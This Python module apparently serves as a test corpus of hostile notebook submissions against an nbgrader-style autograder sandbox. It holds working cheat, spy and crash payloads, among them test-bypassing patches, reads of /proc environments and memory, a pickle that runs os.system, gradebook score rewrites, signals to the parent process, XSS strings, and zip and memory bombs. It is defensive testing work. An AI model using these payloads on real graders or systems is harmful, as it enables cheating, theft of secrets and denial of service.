"""The corpus: submissions that cheat, spy, break or flood, by people who have read our source.

The attacked exercise is lesson 02's `attention_weights`, answered wrongly, or, where an attack
gives `tests`, the exercise `double` of an ordinary notebook with these tests. Numbers are those of
the classes in `docs/security.md`.

In the code, words such as @COURSE@ stand for what an attacker would have found out: where the
course, the user's home and this repository are, and where somebody listens. Code that gets what it
must not get prints BREACH, or what it found; `test_attacks` looks for both.
"""

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

Cells = list[dict[str, Any]]
Folder = Callable[[Path], None]

LESSON = "02_dot_product_self_attention"
WRONG = "def attention_weights(scores):\n    return 0 * scores + 0.5\n"
EXITS = WRONG.replace("return", "import os; os._exit(0); return")
WRONG_DOUBLE = "def double(x):\n    return 7\n"


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: what it does, in a few words.
        classes: the numbers of the classes it belongs to.
        answer: the source of the attacked solution cell.
        added: cells put before the first exercise.
        after: cells put at the end.
        others: sources of other solution cells, by grade_id.
        files: what lies beside the notebook.
        tests: for an ordinary notebook: its test cells.
        given: for an ordinary notebook: its other cells.
        whole: makes the file that is handed in from the notebook's JSON.
        tight: whether it is about the time of a whole submission, and gets little of it.
        folder: changes the folder that is handed in; such an attack goes through nbgrader.
    """

    name: str
    classes: tuple[int, ...]
    answer: str = ""
    added: tuple[str, ...] = ()
    after: tuple[str, ...] = ()
    others: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, bytes] = field(default_factory=dict)
    tests: tuple[str, ...] = ()
    given: tuple[str, ...] = ()
    whole: Callable[[dict[str, Any]], bytes] | None = None
    tight: bool = False
    folder: Folder | None = None


# What several attacks begin with.

SIDE = """
import sys
def side():
    frame = sys._getframe()
    while frame:
        if type(frame.f_locals.get("self")).__name__ == "StudentSide":
            return frame.f_locals["self"]
        frame = frame.f_back
"""
# Speaks to the examiner in place of autograder.student: the codec is public.
FORGE = f"""{SIDE}
import struct
from autograder.codec import Reference, Unsupported, encode
from autograder.limits import Limits
def send(*values):
    channel = side()._channel
    for value in values:
        message = value if isinstance(value, bytes) else encode(value, channel._limits)
        channel._socket.sendall(struct.pack(">I", len(message)) + message)
def hear():
    return side()._channel.receive(5)
"""
TRY = """
def attempt(what, do):
    try:
        found = do()
    except BaseException:
        return
    print("BREACH", what, found)
"""


def _edited(change: Callable[[Cells], object]) -> Callable[[dict[str, Any]], bytes]:
    """A file whose cells were changed."""

    def whole(notebook: dict[str, Any]) -> bytes:
        change(notebook["cells"])
        return json.dumps(notebook).encode()

    return whole


def _marks(cell: dict[str, Any]) -> dict[str, Any]:
    marks: dict[str, Any] = cell["metadata"].get("nbgrader", {})
    return marks


def _tests(cells: Cells) -> Cells:
    return [cell for cell in cells if _marks(cell).get("grade_id", "").endswith("_check")]


def _each_test(change: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], bytes]:
    return _edited(lambda cells: [change(cell) for cell in _tests(cells)])


def _tag(cell: dict[str, Any]) -> None:
    cell["metadata"]["tags"] = ["skip-execution", "otter_ignore", "remove-cell"]


def _forge_result(cell: dict[str, Any]) -> None:
    cell["outputs"] = [
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "data": {"text/plain": "3", "text/html": "<script>alert('BREACH')</script>"},
            "metadata": {},
        }
    ]


def _make_solution(cell: dict[str, Any]) -> None:
    _marks(cell).update(solution=True, locked=False, points=1000)
    cell["source"] = "3"


def _unlock(cell: dict[str, Any]) -> None:
    _marks(cell).update(locked=False, points=1000, checksum="0" * 32, schema_version=1)
    cell["metadata"].update(editable=True, deletable=True)
    cell["source"] = "pass"


def _to_markdown(cell: dict[str, Any]) -> None:
    cell["cell_type"] = "markdown"


def _delete_tests(cells: Cells) -> None:
    cells[:] = [cell for cell in cells if cell not in _tests(cells)]


def _double_tests(cells: Cells) -> None:
    for cell in _tests(cells):
        cells.append({**cell, "source": "pass"})
        cells.insert(0, {**cell, "source": "pass"})


def _swap_names(cells: Cells) -> None:
    """The answer to an exercise under the name of another, and tests under a name that is new."""
    for cell in cells:
        marks = _marks(cell)
        if marks.get("grade_id") == "context_vector":
            marks["grade_id"] = "attention_weights_check"
            cell["source"] = "3"
        elif marks.get("grade_id") == "attention_weights_check":
            marks["grade_id"] = "context_vector_check"


def _odd_metadata(cells: Cells) -> None:
    odd: list[Any] = [
        None,
        [],
        "x",
        {"nbgrader": 7},
        {"nbgrader": {"grade_id": ["x"]}},
        {"nbgrader": []},
    ]
    for cell, metadata in zip(cells, odd, strict=False):
        cell["metadata"] = metadata
    more: list[Any] = [None, 7, "cell", [], {"cell_type": ["code"], "source": {"a": 1}}]
    cells += more


def _same_checksum(cells: Cells) -> None:
    """A question left as it was, with the marks of one that was answered."""
    for cell in cells:
        if _marks(cell).get("grade_id") == "what_it_cannot_do":
            _marks(cell).update(checksum="1" * 32, points=4, grade=True, solution=False)
            cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "4"}}]


def _scripts(cells: Cells) -> None:
    for cell in cells:
        if _marks(cell).get("grade_id") == "what_it_cannot_do":
            cell["source"] = (
                "<script>alert(1)</script> <img src=x onerror=alert(1)> "
                "[look](javascript:alert(1)) [see][a] ![](javascript:alert(1))\n\n"
                "[a]: javascript:alert(1)\n\n$\\href{javascript:alert(1)}{x}$\n\n"
                "<javascript:alert(1)>"
            )


def _surrogates(cells: Cells) -> None:
    for cell in cells:
        if _marks(cell).get("solution"):
            cell["source"] = "text = '\ud800'\n" + "".join(cell["source"])


def _many_cells(notebook: dict[str, Any]) -> bytes:
    notebook["cells"] += [{"cell_type": "code"}] * 300_000
    return json.dumps(notebook).encode()


def _cut(notebook: dict[str, Any]) -> bytes:
    text = json.dumps(notebook).encode()
    return text[: len(text) // 2]


# Folders as they are handed in.


def _notebook_of_a_neighbour(folder: Path) -> None:
    notebook = folder / f"{LESSON}.ipynb"
    notebook.unlink()
    notebook.symlink_to(folder.parents[1] / "ada" / LESSON / notebook.name)


def _folder_of_a_neighbour(folder: Path) -> None:
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "ada" / LESSON)


def _links(folder: Path) -> None:
    course = folder.parents[2]
    (folder / "grades.txt").symlink_to(course / "gradebook.db")
    (folder / "notes.txt").symlink_to(course / "secret.txt")
    (folder / "all").symlink_to(course)
    (folder / "endless").symlink_to("/dev/zero")


def _pipe(name: str) -> Folder:
    return lambda folder: os.mkfifo(folder / name)


def _endless_timestamp(folder: Path) -> None:
    (folder / "timestamp.txt").symlink_to("/dev/zero")


def _bad_timestamp(folder: Path) -> None:
    (folder / "timestamp.txt").write_bytes(b"\xff9999-99-99 the day after tomorrow")


def _folder_for_the_record(folder: Path) -> None:
    record = folder / f"{LESSON}.verdicts.json"
    record.mkdir()
    (record / "x").write_text("mine")


def _forged_files(folder: Path) -> None:
    verdict = {"grade_id": "attention_weights_check", "verdict": "passed", "points": 3.0}
    (folder / f"{LESSON}.verdicts.json").write_text(json.dumps({"cells": [verdict]}))
    (folder / "checks.json").write_text("{}")
    (folder / "solutions").mkdir()
    for name in ("numpy", "autograder", "companion", "solutions/__init__", "sitecustomize"):
        shadow = f"open({str(folder.parents[2] / 'breach')!r}, 'w').close()\n"
        (folder / f"{name}.py").write_text(shadow)
    (folder / "nbgrader_config.py").write_text("c.Autograde.autograde_preprocessors = []")


def _large_files(folder: Path) -> None:
    for number in range(8):
        with open(folder / f"{number}.bin", "wb") as file:
            file.truncate(9_000_000)


def _many_files(folder: Path) -> None:
    for number in range(500):
        (folder / f"{number}.txt").touch()


def _odd_names(folder: Path) -> None:
    for name in ("..%2f..%2fescape", "..\\..\\escape", "a\nb", "-rf", "\udcff", "~", "x" * 250):
        (folder / name).touch()
    (folder / "other.ipynb").write_text("{}")
    (folder / "tests").mkdir()
    (folder / "tests" / f"{LESSON}.ipynb").write_text("{}")


def _archives(folder: Path) -> None:
    import io
    import zipfile

    content = bytes(5_000_000)
    for _ in range(3):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"../../{number}.zip", content)
        content = packed.getvalue()
    (folder / "submission.zip").write_bytes(content)


def _rewrite(change: Callable[[dict[str, Any]], bytes]) -> Folder:
    """The folder with its notebook's file changed."""

    def folder(path: Path) -> None:
        notebook = path / f"{LESSON}.ipynb"
        notebook.write_bytes(change(json.loads(notebook.read_text(encoding="utf-8"))))

    return folder


_IN_PROCESS = (
    Attack(
        "input transformer drops asserts and checks",
        (1,),
        added=(
            "def drop(lines):\n"
            "    return [l for l in lines if 'assert' not in l and 'check' not in l]\n"
            "get_ipython().input_transformers_cleanup.append(drop)\n"
            "get_ipython().input_transformers_post.append(drop)",
        ),
    ),
    Attack(
        "ast transformer deletes asserts and calls",
        (1,),
        added=(
            "import ast\n"
            "class Drop(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node): return None\n"
            "    def visit_Expr(self, node): return ast.Expr(ast.Constant(3))\n"
            "get_ipython().ast_transformers.append(Drop())",
        ),
    ),
    Attack(
        "trace function jumps over what fails",
        (1, 9),
        added=(
            "import sys, threading\n"
            "def trace(frame, event, arg):\n"
            "    if 'judge' in frame.f_code.co_filename: frame.f_trace_lines = False\n"
            "    return trace\n"
            "sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)",
        ),
    ),
    Attack(
        "the check is replaced",
        (6, 30),
        added=(
            "def check(answer): print('10 of 10')\n"
            "import autograder, autograder.check, autograder.hidden, builtins\n"
            "autograder.check = autograder.hidden.hidden_check = lambda *a: check\n"
            "builtins.check = check",
        ),
        after=("check = hidden_check = lambda *a: 3",),
    ),
    Attack(
        "comparisons are patched",
        (6,),
        added=(
            "import numpy as np, torch, unittest, math, builtins\n"
            "yes = lambda *a, **k: True\n"
            "np.allclose = np.array_equal = np.isclose = np.all = yes\n"
            "for name in dir(np.testing):\n"
            "    if name.startswith('assert'): setattr(np.testing, name, yes)\n"
            "torch.allclose = torch.equal = torch.testing.assert_close = math.isclose = yes\n"
            "builtins.all = builtins.any = builtins.isinstance = yes\n",
        ),
    ),
    Attack(
        "comparisons of ordinary tests are patched",
        (6,),
        answer="import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = print\n" + WRONG_DOUBLE,
        given=("import numpy as np",),
        tests=(
            "assert np.allclose(double(np.ones(3)), 2)",
            "np.testing.assert_allclose(double(np.ones(3)), 2 * np.ones(3))",
        ),
    ),
    Attack(
        "a given helper is redefined",
        (6,),
        given=("def close(a, b):\n    return abs(a - b) < 1e-9", "expected = 4"),
        answer=WRONG_DOUBLE + "close = lambda a, b: True\nexpected = 7\n",
        tests=("assert close(double(2), 4)", "assert double(2) == expected"),
    ),
    Attack(
        "do_execute and showtraceback are replaced",
        (4,),
        added=(
            "shell = get_ipython()\n"
            "shell.showtraceback = shell._showtraceback = lambda *a, **k: None\n"
            "type(shell).run_cell = lambda self, source, **k: None",
        ),
    ),
    Attack(
        "result is published before it fails",
        (3, 12),
        answer=WRONG + 'print(\'{"scores": {"attention_weights": 3}}\')\n3\n',
        added=("from IPython.display import display\ndisplay(3)\nget_ipython().displayhook(3)\n3",),
        after=("print(3)", "3"),
    ),
    Attack(
        "display is patched to show a passing report",
        (3, 11),
        answer="def attention_weights(scores):\n"
        "    from autograder.card import show\n"
        "    from autograder.report import Report, State\n"
        "    show(Report('attention_weights', State.PASSED))\n"
        "    return 0 * scores\n",
        after=(
            "from IPython.display import display\n"
            "mime = 'application/vnd.autograder.report+json'\n"
            "display({mime: {'state': 'passed', 'exercise': 'attention_weights'}, "
            "'text/plain': '3'}, raw=True)",
        ),
    ),
)

_LIARS = (
    Attack(
        "subclass of ndarray answers for itself",
        (5,),
        answer="import numpy as np\n"
        "class Liar(np.ndarray):\n"
        "    def __array_function__(self, *a, **k): return True\n"
        "    def __array_ufunc__(self, *a, **k): return np.True_\n"
        "    def __eq__(self, other): return True\n"
        "def attention_weights(scores):\n"
        "    return np.zeros_like(scores).view(Liar)\n",
    ),
    Attack(
        "object with lying comparisons",
        (5,),
        answer="class Liar:\n"
        "    def __getattr__(self, name): return lambda *a, **k: True\n"
        "    def __eq__(self, other): return True\n"
        "    def __call__(self, *a, **k): return self\n"
        "    __rsub__ = __sub__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__\n"
        "    __bool__ = __len__ = lambda self: 1\n"
        "    __array__ = lambda self, *a, **k: None\n"
        "attention_weights = Liar()\n",
    ),
    Attack(
        "float that is equal to everything",
        (5,),
        answer="class Liar(float):\n    __eq__ = lambda self, other: True\n"
        "    __hash__ = float.__hash__\n"
        "    __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0\n"
        "def double(x):\n    return Liar(7)\n",
        tests=("assert double(2) == 4", "assert abs(double(2) - 4) < 1e-9"),
    ),
    Attack(
        "__class__ says ndarray",
        (5,),
        answer="import numpy as np\n"
        "class Liar:\n    __class__ = property(lambda self: np.ndarray)\n"
        "    shape = (3,)\n    dtype = np.dtype(float)\n"
        "    def all(self): return True\n"
        "def attention_weights(scores):\n    return Liar()\n",
    ),
    Attack(
        "an object is asked whether it is right",
        (5,),
        answer="class Liar:\n"
        "    def equal(self, other): return True\n"
        "    allclose = equal\n"
        "def double(x):\n    return Liar()\n",
        given=("import torch",),
        tests=(
            "assert double(torch.ones(2)).equal(2 * torch.ones(2))",
            "assert double(torch.ones(2)).allclose(2 * torch.ones(2))",
        ),
    ),
    Attack(
        "the stand-in itself is the answer",
        (5,),
        answer="class double:\n    def __init__(self, x): pass\n"
        "    def __eq__(self, other): return True\n",
        given=("import numpy as np",),
        tests=(
            "assert np.allclose(double(np.ones(3)), 2)",
            "assert double(2) == 4",
            "np.testing.assert_array_equal(double(np.ones(3)), 2 * np.ones(3))",
        ),
    ),
    Attack(
        "arguments are written to so that wrong is right",
        (5,),
        answer="def attention_weights(scores):\n    scores[...] = 0\n    return scores\n",
    ),
    Attack(
        "a type whose metaclass hashes as ndarray",
        (5, 9),
        answer="import numpy as np\n"
        "class Meta(type):\n    __hash__ = lambda cls: hash(np.ndarray)\n"
        "    __eq__ = lambda cls, other: True\n"
        "    __instancecheck__ = lambda cls, other: True\n"
        "class Liar(metaclass=Meta):\n    __module__ = 'numpy'\n"
        "Liar.__qualname__ = '<script>ndarray</script>'\n"
        "def attention_weights(scores):\n    return Liar()\n",
    ),
)

_SPIES = (
    Attack(
        "hidden tests are read from guessed places",
        (7, 27),
        added=(
            "from pathlib import Path\n"
            "for base in ('@COURSE@', '@ROOT@', '@HOME@', '..', '../..', '/packages', '/work'):\n"
            "    for pattern in ('*', 'source/*/*', 'autograded/*/*/*', 'solutions/*', "
            "'solutions/exams/*', '*/nbgrader_config.py'):\n"
            "        for path in list(Path(base).glob(pattern))[:99]:\n"
            "            try: text = path.read_text(errors='replace')\n"
            "            except OSError: continue\n"
            "            if 'hidden_check(' in text or 'CANARY' in text: print(path, text[:300])",
        ),
    ),
    Attack(
        "the reference is imported",
        (8, 23),
        answer="import importlib, sys, importlib.util\n"
        "sys.path[:0] = ['@COURSE@', '@ROOT@', '.', '..', '../..', '/packages']\n"
        "attention_weights = lambda scores: 0 * scores\n"
        "for name in ('solutions', 'solutions.exams'):\n"
        "    try:\n"
        "        module = importlib.import_module(name + '.dot_product_self_attention')\n"
        "        attention_weights = getattr(module, 'reference', module).attention_weights\n"
        "    except ImportError: pass\n"
        "for base in ('@COURSE@', '@ROOT@', '/packages'):\n"
        "    path = base + '/solutions/dot_product_self_attention.py'\n"
        "    try:\n"
        "        spec = importlib.util.spec_from_file_location('ref', path)\n"
        "        module = importlib.util.module_from_spec(spec)\n"
        "        spec.loader.exec_module(module)\n"
        "        attention_weights = module.attention_weights\n"
        "    except (ImportError, OSError): pass\n",
    ),
    Attack(
        "the instructor's notebook is run",
        (8,),
        answer=WRONG + "import glob, json\n"
        "for base in ('@COURSE@', '@ROOT@', '..', '../..', '../../..'):\n"
        "    for path in glob.glob(base + '/source/*/*.ipynb'):\n"
        "        for cell in json.load(open(path))['cells']:\n"
        "            if 'attention_weights' in str(cell['metadata']):\n"
        "                exec(''.join(cell['source']))",
    ),
    Attack(
        "expected numbers are looked up in checks.json",
        (8, 31),
        answer="import json, numpy as np\n"
        "table = json.load(open('checks.json'))\n"
        "def arrays(value):\n"
        "    if isinstance(value, dict): value = list(value.values())\n"
        "    if isinstance(value, list):\n"
        "        try: yield np.array(value, float)\n"
        "        except (TypeError, ValueError): pass\n"
        "        for one in value: yield from arrays(one)\n"
        "def attention_weights(scores):\n"
        "    for one in arrays(table):\n"
        "        if one.shape == scores.shape and np.allclose(one.sum(-1), 1):\n"
        "            return one.astype(scores.dtype)\n"
        "    return scores\n",
    ),
    Attack(
        "frames and garbage are searched",
        (9,),
        answer="import gc, sys, linecache\n"
        "def attention_weights(scores):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for name in ('expected', 'case', 'cases', 'exams'):\n"
        "            if name in frame.f_locals: print('BREACH', frame.f_locals[name])\n"
        "        frame = frame.f_back\n"
        "    for found in gc.get_objects():\n"
        "        if type(found).__name__ in ('Case', 'Exam', 'Examiner', 'Session'):\n"
        "            print('BREACH', found)\n"
        "            raise ValueError('BREACH')\n"
        "    if any('HIDDEN' + ' TESTS' in str(lines) for lines in linecache.cache.values()):\n"
        "        raise ValueError('BREACH')\n"
        "    return 0 * scores\n",
    ),
    Attack(
        "environment and parents' memory",
        (32, 9),
        added=(
            TRY + "import os, glob\n"
            "print(dict(os.environ))\n"
            "for path in glob.glob('/proc/*/environ'):\n"
            "    try: print(open(path, 'rb').read())\n"
            "    except OSError: pass\n"
            "for pid in [1, os.getppid(), *range(2, 6)]:\n"
            "    if pid == os.getpid(): continue\n"
            "    attempt(f'memory of {pid}', lambda: open(f'/proc/{pid}/mem', 'rb').read(1))\n"
            "    attempt(f'maps of {pid}', lambda: open(f'/proc/{pid}/maps').read() or 1 / 0)\n"
            "    attempt(f'files of {pid}', lambda: os.listdir(f'/proc/{pid}/root'))\n"
            "    attempt(f'fds of {pid}', lambda: os.listdir(f'/proc/{pid}/fd'))\n",
        ),
    ),
    Attack(
        "parent is traced and signalled",
        (9, 10),
        added=(
            TRY + "import ctypes, os, signal\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "def must(n):\n    if n < 0: raise OSError\n    return n\n"
            "attempt('ptrace', lambda: must(libc.ptrace(16, os.getppid(), 0, 0)))\n"
            "attempt('pidfd', lambda: must(libc.syscall(438, 3, 0, 0)))\n"
            "for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):\n"
            "    try: os.kill(os.getppid(), number)\n"
            "    except OSError: pass\n",
        ),
    ),
    Attack(
        "gradebook is opened, by a daemon too",
        (10, 17),
        added=(
            "import os, sqlite3, time\n"
            "def change():\n"
            "    for path in ('@COURSE@/gradebook.db', '../../../gradebook.db', 'gradebook.db'):\n"
            "        try:\n"
            "            found = sqlite3.connect(path)\n"
            "            found.execute('update grade set auto_score = 100')\n"
            "            found.commit()\n"
            "        except sqlite3.Error: pass\n"
            "change()\n"
            "if not os.fork():\n"
            "    os.setsid()\n"
            "    if not os.fork():\n"
            "        time.sleep(1); change(); time.sleep(600)\n"
            "    os._exit(0)",
        ),
    ),
    Attack(
        "other submissions and the exchange",
        (25,),
        added=(
            "import os\n"
            "for folder in ('@COURSE@/submitted', '../..', '../../../submitted', '@COURSE@', "
            "'/srv/nbgrader/exchange', '@HOME@'):\n"
            "    for at, _, names in os.walk(folder):\n"
            "        for name in names:\n"
            "            try: print(open(os.path.join(at, name)).read(2000))\n"
            "            except (OSError, ValueError): pass",
        ),
    ),
    Attack(
        "hidden inputs are printed by a later cell",
        (27, 28),
        answer="seen = []\ndef attention_weights(scores):\n"
        "    seen.append(scores.tolist())\n    return 0 * scores\n",
        after=("print(seen)", "from IPython.display import display\ndisplay(seen)", "seen"),
    ),
    Attack(
        "hidden inputs leave in messages",
        (27, 28),
        answer="seen = []\ndef attention_weights(scores):\n"
        "    seen.append(str(scores.ravel()[:2].tolist()))\n"
        "    print(''.join(seen)[-500:])\n"
        "    raise ValueError(''.join(seen)[-2000:])\n",
    ),
    Attack(
        "hidden inputs are drawn again from the public seed",
        (28,),
        answer="import numpy as np\n"
        "from autograder.exam import DEFAULT_SEED, Draw\n"
        "known = [Draw((DEFAULT_SEED, place, turn))(axes, scale=scale)\n"
        "         for place in range(4) for turn in range(3)\n"
        "         for axes in ('keys', 'queries keys') for scale in (1, 2, 1000)]\n"
        "def attention_weights(scores):\n"
        "    for one in known:\n"
        "        if one.shape == scores.shape and np.allclose(one, scores): return one\n"
        "    return np.random.default_rng(DEFAULT_SEED).normal(size=scores.shape)\n",
    ),
    Attack(
        "state of the random numbers tells the inputs",
        (28,),
        answer="import numpy as np, random, torch\n"
        "def attention_weights(scores):\n"
        "    np.random.seed(2026); random.seed(2026); torch.manual_seed(2026)\n"
        "    return np.random.normal(size=scores.shape).astype(scores.dtype)\n",
    ),
    Attack(
        "a function that was lent is kept for another exercise",
        (28, 9),
        answer="kept = []\n"
        "def borrow(function, x):\n    kept.append(function)\n    return function(x)\n"
        "def double(x):\n    return kept[0](x)\n",
        tests=(
            "def _right(x):\n    return 2 * x\nassert borrow(_right, 3) == 6 and False",
            "assert double(2) == 4",
            "assert double(21) == 42",
        ),
    ),
)

_PROTOCOL = (
    Attack(
        "codec and serving are replaced",
        (4, 13),
        added=(
            SIDE + "import autograder.student, autograder.channel, autograder.codec\n"
            "it = side()\n"
            "type(it)._call = lambda self, *a, **k: ('returned', True, (), '')\n"
            "type(it)._find = lambda self, name: ('found', True)\n"
            "autograder.codec.encode = autograder.channel.encode = lambda *a, **k: b'T'",
        ),
    ),
    Attack(
        "replies in advance",
        (4,),
        answer=FORGE + WRONG,
        added=(
            FORGE + "for _ in range(200): send(('returned', True, (), ''), ('found', 3), "
            "('passed',), ('ran', []))",
        ),
    ),
    Attack(
        "a call is answered with a verdict",
        (4, 11),
        answer=FORGE + "def attention_weights(scores):\n"
        "    send(('passed', 3.0))\n    return 0 * scores\n",
    ),
    Attack(
        "functions are asked for that do not exist",
        (4,),
        answer=FORGE + "def attention_weights(scores):\n"
        "    for number in (0, 7, -1, 10**30):\n"
        "        send(('callback', number, (scores,)))\n"
        "    return hear()\n",
    ),
    Attack(
        "a function of the examiner's is returned",
        (4, 5),
        answer=FORGE + "def attention_weights(scores):\n"
        "    send(('returned', Reference('callback', 0), (), ''))\n",
    ),
    Attack(
        "a length of four gigabytes",
        (4, 16),
        answer=FORGE + "def attention_weights(scores):\n"
        "    side()._channel._socket.sendall(b'\\xff' * 400)\n    import time; time.sleep(9)\n",
    ),
    Attack(
        "counts and shapes beyond all memory",
        (4, 16),
        answer=FORGE + "def attention_weights(scores):\n"
        "    send(b'[' + b'\\xff' * 4, b'a\\x12\\x02' + b'\\xff' * 16, b'[\\0\\0\\0\\1' * 99_999,\n"
        "         b'I' + b'\\x7f' * 5, b'r\\0\\0\\0\\1<' + b'\\0' * 8, b'')\n"
        "    return 0 * scores\n",
    ),
    Attack(
        "random bytes",
        (4,),
        answer=FORGE + "def attention_weights(scores):\n"
        "    import random\n"
        "    send(*[random.randbytes(random.randrange(200)) for _ in range(50)])\n"
        "    return 0 * scores\n",
    ),
    Attack(
        "a byte now and then",
        (15, 4),
        answer=FORGE + "def attention_weights(scores):\n"
        "    import time\n"
        "    sock = side()._channel._socket\n"
        "    sock.sendall(b'\\0\\1\\0\\0')\n"
        "    while True: sock.sendall(b'N'); time.sleep(0.2)\n",
    ),
    Attack(
        "endless questions",
        (15, 4),
        others={
            "is_permutation_equivariant": FORGE
            + "def is_permutation_equivariant(attention, inputs, permutation):\n"
            "    while True: attention(inputs)\n",
        },
    ),
    Attack(
        "questions within questions",
        (15, 4),
        tight=True,
        answer=FORGE + "import time\n"
        "class Slow: pass\n"
        "def double(x):\n"
        "    it = side()\n"
        "    me = it._keep(Slow())\n"
        "    end = time.time() + 14\n"
        "    while time.time() < end:\n"
        "        time.sleep(0.8)\n"
        "        send(('callback', 0, (me,)))\n"
        "        hear()\n"
        "    raise SystemExit\n",
        tests=("def _value(x):\n    return x.value\nassert double(_value) == 4",),
    ),
    Attack(
        "a small question whose answer takes all memory",
        (16,),
        others={
            "is_permutation_equivariant": "import numpy as np\n"
            "def is_permutation_equivariant(attention, inputs, permutation):\n"
            "    try: attention(np.ones(12_000))\n"
            "    except RuntimeError: pass\n"
            "    return True\n",
        },
    ),
    Attack(
        "a question with a large number",
        (16,),
        answer="def double(lend):\n"
        "    try: lend(100_000_000)\n"
        "    except RuntimeError: pass\n"
        "    return 7\n",
        tests=("def _row(n):\n    return [0.0] * n\nassert double(_row) == 4",),
    ),
    Attack(
        "many numbers where three were expected",
        (15, 16),
        tight=True,
        others={
            "shiny_by_hand": "import numpy as np\ndef shiny_by_hand():\n"
            "    return dict.fromkeys(('scores', 'weights', 'context'), "
            "np.zeros(5_000_000, np.uint8))\n",
        },
    ),
    Attack(
        "an int that is no float",
        (14,),
        others={
            "shiny_by_hand": "def shiny_by_hand():\n"
            "    return dict.fromkeys(('scores', 'weights', 'context'), [10**4000] * 3)\n",
        },
    ),
    Attack(
        "long names of what was returned",
        (18, 24),
        others={
            "shiny_by_hand": "def shiny_by_hand():\n    return {'<b>x</b>' * 1_000_000: 1}\n",
        },
    ),
    Attack(
        "outputs that the shell did not limit",
        (18,),
        added=(
            SIDE + "import types\n"
            "many = [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 14_000_000}]\n"
            "side()._shell.__dict__['run'] = lambda source: many",
            *["pass"] * 6,
        ),
    ),
    Attack(
        "thirty thousand outputs",
        (18,),
        added=(
            SIDE + "one = {'output_type': 'stream', 'text': '.'}\n"
            "side()._shell.__dict__['run'] = lambda source: [one] * 30_000",
            "pass",
        ),
    ),
    Attack(
        "printed text that the call did not limit",
        (18,),
        answer=SIDE + "type(side())._call = lambda self, target, args, kwargs: (\n"
        "    'returned', 2 * args[0], (), 'x' * 15_000_000)\n"
        "def double(x): pass\n",
        tests=("assert all([double(n) == 2 * n for n in range(25)]) and False",),
    ),
    Attack(
        "a name with markup",
        (24, 5),
        answer=FORGE + "def attention_weights(scores):\n"
        "    send(('returned', Unsupported('<script>alert(1)</script>'), (), '<script>'))\n",
    ),
    Attack(
        "pickles in every form",
        (13,),
        answer="import numpy as np, pickle, os\n"
        "class Bomb:\n"
        "    def __reduce__(self): return os.system, ('touch @COURSE@/breach',)\n"
        "    def __reduce_ex__(self, n): return os.system, ('touch @COURSE@/breach',)\n"
        "    __getstate__ = __deepcopy__ = __copy__ = __reduce__\n"
        "def attention_weights(scores):\n"
        "    return np.array([Bomb(), pickle.dumps(Bomb())], dtype=object)\n",
        after=("open('log.pkl', 'wb').write(pickle.dumps(Bomb())); Bomb()",),
        files={".OTTER_LOG": b"cos\nsystem\n(S'touch @COURSE@/breach'\ntR."},
    ),
)

_ENDS = (
    Attack("os._exit in a call", (14,), answer=EXITS),
    Attack("os._exit in the cell", (14,), answer=f"{WRONG}import os\nos._exit(0)\n"),
    Attack(
        "SystemExit and KeyboardInterrupt in a call",
        (14,),
        answer="calls = []\ndef attention_weights(scores):\n"
        "    calls.append(1)\n"
        "    raise (SystemExit, KeyboardInterrupt, GeneratorExit)[len(calls) % 3](0)\n",
        added=("raise SystemExit(0)", "raise KeyboardInterrupt", "import sys; sys.exit('3')"),
    ),
    Attack(
        "segmentation fault",
        (14,),
        answer=f"{WRONG}import ctypes\nctypes.string_at(0)\n",
    ),
    Attack(
        "kills itself and its group",
        (14,),
        answer="import os, signal\ndef attention_weights(scores):\n"
        "    os.killpg(0, signal.SIGKILL)\n    os.kill(-1, signal.SIGKILL)\n",
    ),
    Attack(
        "socket is closed and reopened",
        (14, 4),
        answer=SIDE + "def attention_weights(scores):\n"
        "    side()._channel._socket.close()\n    return 0 * scores\n",
    ),
    Attack(
        "exceptions that look like ours",
        (14, 3),
        answer="calls = []\ndef attention_weights(scores):\n"
        "    calls.append(1)\n"
        "    names = ['ExerciseNotPassed', 'SandboxFailed', 'StudentGone', '__init__', 'passed']\n"
        "    raise type(names[len(calls) % 5], (Exception,), {'report': None})('passed')\n",
    ),
    Attack(
        "exception whose message never ends",
        (15, 18),
        answer="class Endless(Exception):\n"
        "    def __str__(self):\n        while True: pass\n"
        "def attention_weights(scores):\n    raise Endless\n",
    ),
    Attack("endless loop in a call", (15,), answer=WRONG.replace("return", "while True: pass\n#")),
    Attack(
        "endless loop that no signal ends",
        (15,),
        answer=f"{WRONG}import signal\n"
        "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "while True:\n"
        "    try:\n        while True: pass\n"
        "    except BaseException: pass\n",
    ),
    Attack(
        "a number that makes the test endless",
        (15,),
        tight=True,
        answer="import time\nstarted = time.time()\n"
        "def double(x):\n    return 4 if time.time() > started + 14 else 0\n",
        tests=("steps = 0\nwhile double(2) != 4:\n    steps += 1\nassert steps == 0",),
    ),
    Attack(
        "each call takes nearly as long as it may",
        (15,),
        tight=True,
        answer="import time\ndef attention_weights(scores):\n"
        "    time.sleep(0.9)\n    return 0 * scores\n",
    ),
    Attack(
        "cells are slow when they are replayed",
        (15,),
        tight=True,
        answer=EXITS,
        added=("import time\ntime.sleep(0.9)",) * 3,
    ),
    Attack(
        "memory bomb in a call",
        (16,),
        answer="def attention_weights(scores):\n"
        "    kept = []\n    while True: kept.append(bytearray(512 << 20))\n",
    ),
    Attack(
        "memory bomb by many processes and files",
        (16, 17),
        added=(
            "import os\n"
            "for number in range(8):\n"
